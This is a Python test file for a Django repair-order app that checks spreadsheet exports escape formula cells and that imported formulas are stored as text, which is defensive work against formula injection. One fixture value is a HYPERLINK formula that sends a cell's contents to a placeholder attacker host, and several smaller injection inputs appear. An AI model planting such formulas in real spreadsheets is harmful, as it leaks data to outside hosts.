"""Exports never carry a live formula, whatever a customer or an import typed: the machines' CSV and
XLSX, the orders' CSV; imported formula cells are stored as their text."""

from __future__ import annotations

import io
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from django_tenants.utils import schema_context
from openpyxl import Workbook, load_workbook

from portals.tests.orders.helpers import signed_in
from repair_forms.models import Asset
from repair_forms.tests.helpers import Cast
from tenants.spreadsheets import cell_safe, cell_text_in, csv_bytes, xlsx_bytes

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A2,"点击")'


def _in_a(actors: Any) -> Any:
    return schema_context(actors.tenant_a.schema_name)


def _with_note(cast: Cast, actors: Any, note: str) -> None:
    with _in_a(actors):
        Asset.objects.filter(pk=cast.asset.pk).update(notes=note, location_room="+1-2")


def test_the_machines_csv_export_escapes_formula_cells(cast: Cast, actors: Any) -> None:
    _with_note(cast, actors, PAYLOAD)
    client = signed_in(actors.tenant_a, cast.supervisor)
    text = client.get("/console/assets/export.csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'+1-2" in text
    assert ",=HYPERLINK" not in text


def test_the_machines_xlsx_export_writes_strings_never_formulas(cast: Cast, actors: Any) -> None:
    _with_note(cast, actors, PAYLOAD)
    client = signed_in(actors.tenant_a, cast.supervisor)
    content = client.get("/console/assets/export.xlsx", {"q": cast.asset.machine_no}).content
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + PAYLOAD in [cell.value for cell in cells]


def test_the_orders_csv_export_escapes_what_a_customer_typed(cast: Cast, actors: Any) -> None:
    from repair_forms import services

    with _in_a(actors):
        services.order_submit(
            actor=cast.actor("reporter"), data=cast.form_data(fault_description="@SUM(1+1)")
        )
    client = signed_in(actors.tenant_a, cast.supervisor)
    text = b"".join(client.get("/console/orders/export.csv").streaming_content).decode("utf-8-sig")
    assert "'@SUM(1+1)" in text


def test_an_imported_formula_cell_is_stored_as_its_text_and_exported_escaped(
    cast: Cast, actors: Any, django_capture_on_commit_callbacks: Any
) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(
        ["机器编号", "序列号", "品牌", "类别", "型号", "客户公司", "建筑物", "房间", "保修情况", "保修截止"]
    )
    sheet.append(["NO600001", "SN-F1", "", "", "", "", "", "=1+1", "", ""])
    buffer = io.BytesIO()
    book.save(buffer)
    client = signed_in(actors.tenant_a, cast.dispatcher)
    with django_capture_on_commit_callbacks() as callbacks:
        client.post("/console/assets/import/", {"file": SimpleUploadedFile("m.xlsx", buffer.getvalue())})
    with _in_a(actors):
        for callback in callbacks:
            callback()
        assert Asset.objects.get(machine_no="NO600001").location_room == "=1+1"
    text = client.get("/console/assets/export.csv", {"q": "NO600001"}).content.decode("utf-8-sig")
    assert "'=1+1" in text


def test_the_writer_round_trips_its_own_escaping() -> None:
    for value in ["=A1", "+86 138", "-5", "@x", "\t=1", "plain", "报修"]:
        assert cell_text_in(cell_safe(value)) == value
    assert csv_bytes(["h"], [["=1"]]).decode("utf-8-sig").splitlines() == ["h", "'=1"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["h"], [["=1", 5]], sheet_title="x"))).active
    assert sheet is not None and sheet.cell(row=2, column=1).data_type == "s"
    assert sheet.cell(row=2, column=2).value == 5
